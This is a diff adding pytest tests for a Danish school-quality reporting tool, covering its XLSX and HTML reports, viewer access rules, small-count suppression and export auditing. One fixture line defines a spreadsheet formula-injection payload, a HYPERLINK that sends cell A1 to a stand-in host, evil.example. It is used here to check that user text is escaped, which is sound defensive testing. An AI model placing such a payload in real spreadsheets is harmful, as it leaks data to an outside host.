@@ -1,0 +1,165 @@
+"""Reports: the quality report and the dialogue sheet as XLSX and HTML, and the command."""
+
+from __future__ import annotations
+
+import csv
+import html
+import io
+import re
+from html.parser import HTMLParser
+
+import pytest
+from openpyxl import load_workbook
+
+import reports
+from core import database
+from core.errors import KvalitetsdialogError
+from core.viewer import Viewer
+from dialogue import add_note
+from reports import safe
+from reports.__main__ import main
+
+ADMIN = Viewer.parse("administration")
+MARK = "Fortroligt - folkeskolelovens § 55 b"
+INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
+
+
+@pytest.fixture
+def rdb(db):
+    """Three schools of Eksempelby with 2021/22 national tests and well-being (hand-made numbers).
+
+    Well-being, general (value, respondents): Nordskolen 3.9 (100), Sydskolen 3.5 (300),
+    Lilleskolen 4.2 (3: fewer than 5, withheld but still in the municipality's pool).
+    National tests: Nordskolen, grade 4 reading, 20 tested, levels 1..6 = 1, 2, 3, 6, 5, 3.
+    """
+    with database.write(db) as con:
+        con.execute(
+            "INSERT INTO institutions (institution_id, name, kind, municipality_code) VALUES"
+            " ('999001', 'Nordskolen', 'skole', 999), ('999002', 'Sydskolen', 'skole', 999),"
+            " ('999003', 'Lilleskolen', 'skole', 999)"
+        )
+        con.execute(
+            "INSERT INTO wellbeing VALUES (1, '999001', 2021, NULL, 'general', 3.9, 100),"
+            " (1, '999002', 2021, NULL, 'general', 3.5, 300), (1, '999003', 2021, NULL, 'general', 4.2, 3)"
+        )
+        con.execute(
+            "INSERT INTO test_aggregates VALUES (1, '999001', 2021, 4, 'dansk_laesning', 'national_test',"
+            " 20, 1, 2, 3, 6, 5, 3, NULL)"
+        )
+        con.execute("INSERT OR REPLACE INTO meta VALUES ('demo', 'true')")
+    add_note(db, ADMIN, institution_id="999001", school_year=2021, note_kind="assessment", text=INJECTION)
+    return db
+
+
+def quality(db, viewer, fmt):
+    with database.read(db) as con:
+        return reports.quality(con, viewer, kommune=999, year=2021, fmt=fmt)
+
+
+def cell(ws, name: str, column: int):
+    """The cell in a given column of the row whose first cell is ``name``."""
+    return next(r[column - 1] for r in ws.iter_rows(min_row=5) if r[0].value == name)
+
+
+def rows(ws) -> dict[str, list]:
+    """A sheet's data rows keyed by their first cell (the institution's name)."""
+    return {r[0]: list(r[1:]) for r in ws.iter_rows(min_row=5, values_only=True) if r[0]}
+
+
+def test_quality_xlsx_sheets_values_and_marks(rdb):
+    wb = load_workbook(io.BytesIO(quality(rdb, ADMIN, "xlsx")))
+    assert wb.sheetnames == ["Forside", "Mål", "Nationale test", "Trivsel", "Vurderinger", "Definitioner"]
+    cover = {r[0]: r[1] for r in wb["Forside"].iter_rows(values_only=True) if r[0]}
+    assert cover["Kommune"] == "Eksempelby Kommune"
+    assert cover["Skoleår"] == "2021/22"
+    assert cover["Data"] == "Syntetiske data"
+
+    wb_rows = rows(wb["Trivsel"])
+    # Nordskolen's own value, and the municipality pooled on respondents:
+    # (3.9*100 + 3.5*300 + 4.2*3) / (100 + 300 + 3) = 1452.6 / 403 = 3.60447...
+    assert wb_rows["Nordskolen"][:2] == [3.9, 100]
+    assert wb_rows["Eksempelby Kommune"][0] == pytest.approx(1452.6 / 403)
+    assert wb_rows["Eksempelby Kommune"][1] == 403
+    # Lilleskolen: 3 respondents, fewer than 5: withheld, and says so (not blank, not zero).
+    assert wb_rows["Lilleskolen"][0] == "<5"
+    assert cell(wb["Trivsel"], "Nordskolen", 2).number_format == "0.0"
+    assert wb["Trivsel"].freeze_panes == "A5"
+
+    nt = wb["Nationale test"]
+    assert nt["A2"].value == MARK and nt.oddHeader.center.text == MARK
+    # Nordskolen: good = levels 4-6 = 6 + 5 + 3 = 14 of 20 tested = 70 %.
+    assert rows(nt)["Nordskolen"][0] == pytest.approx(0.70)
+    assert cell(nt, "Nordskolen", 2).number_format == "0.0 %"
+    assert wb["Trivsel"]["A2"].value is None  # no § 55 b mark where there is no test content
+
+    assessment = wb["Vurderinger"]["C5"]
+    assert assessment.value == INJECTION and assessment.data_type == "s"
+    assert wb["Definitioner"]["A5"].value == "nt_share_good"
+
+
+def test_public_gets_no_national_test_sheet(rdb):
+    wb = load_workbook(io.BytesIO(quality(rdb, Viewer.parse("public"), "xlsx")))
+    assert "Nationale test" not in wb.sheetnames and "Trivsel" in wb.sheetnames
+    assert all(MARK not in str(c.value) for ws in wb for row in ws.iter_rows() for c in row)
+    # The public reads no notes.
+    assert list(wb["Vurderinger"].iter_rows(min_row=5, values_only=True)) == []
+
+
+class _Refs(HTMLParser):
+    def __init__(self):
+        super().__init__()
+        self.refs = []
+
+    def handle_starttag(self, tag, attrs):
+        self.refs += [v for k, v in attrs if k in ("src", "href") and v]
+
+
+def test_quality_html_is_self_contained_with_figures(rdb):
+    page = quality(rdb, ADMIN, "html").decode("utf-8")
+    assert page.count("Plotly.newPlot") == 2  # national tests and well-being
+    assert page.count("plotly.js v") == 1  # the bundle is inlined once
+    parser = _Refs()
+    parser.feed(page)
+    assert not [r for r in parser.refs if re.match(r"\s*(https?:)?//", r)]
+    assert "@page { size: A4" in page and MARK in page
+    assert "3,9" in page and "&lt;5" in page
+    assert html.escape(INJECTION) in page and INJECTION not in page  # user text is escaped
+    public = quality(rdb, Viewer.parse("public"), "html").decode("utf-8")
+    assert MARK not in public and "Nationale test" not in public
+
+
+def test_dialogue_sheet_for_one_institution(rdb):
+    add_note(rdb, ADMIN, institution_id="999001", school_year=2020, note_kind="action",
+                      text="+Læsebånd hver dag", action_owner="Skolelederen", action_due="2021-06-30")
+    with database.read(rdb) as con:
+        data = reports.dialogue(con, Viewer.parse("leader:999001"), "999001", year=2021, fmt="xlsx")
+        page = reports.dialogue(con, ADMIN, "999001", year=2021, fmt="html").decode("utf-8")
+        with pytest.raises(KvalitetsdialogError, match="ikke din"):
+            reports.dialogue(con, Viewer.parse("leader:999002"), "999001", year=2021)
+    ws = load_workbook(io.BytesIO(data))["Dialog"]
+    texts = [c.value for row in ws.iter_rows() for c in row if c.value is not None]
+    assert "Kvalitetsdialog 2021/22: Nordskolen" in texts
+    assert INJECTION in texts and "+Læsebånd hver dag" in texts
+    carried = next(c for row in ws.iter_rows() for c in row if c.value == "+Læsebånd hver dag")
+    assert carried.data_type == "s"
+    assert ws.page_setup.orientation == "portrait"
+    assert "Åbne aftaler fra tidligere år" in page and "Læsebånd" in page
+
+
+def test_csv_and_xlsx_text_is_never_a_formula():
+    out = io.StringIO()
+    csv.writer(out).writerow([safe.csv_text(v) for v in ["=1+1", "-2", "@x", "+4", "Læs", 3.5]])
+    assert out.getvalue().strip() == "'=1+1,'-2,'@x,'+4,Læs,3.5"
+
+
+def test_command_writes_the_file_and_records_the_export(rdb, tmp_path, capsys):
+    out = tmp_path / "rapport.xlsx"
+    assert main(["quality", "--db", str(rdb), "--out", str(out), "--year", "2021/22", "--as", "council"]) == 0
+    assert load_workbook(out).sheetnames[0] == "Forside"
+    with database.read(rdb) as con:
+        assert con.execute("SELECT who, action, object FROM audit_log WHERE action = 'export'").fetchall() == [
+            ("council", "export", "report:quality")]
+    assert main(["quality", "--db", str(rdb), "--out", str(tmp_path / "r.pdf")]) == 1
+    assert "Ukendt filformat" in capsys.readouterr().err
+    assert main(["dialogue", "--db", str(rdb), "--institution", "999002", "--as", "leader:999001",
+                 "--out", str(tmp_path / "d.html")]) == 1
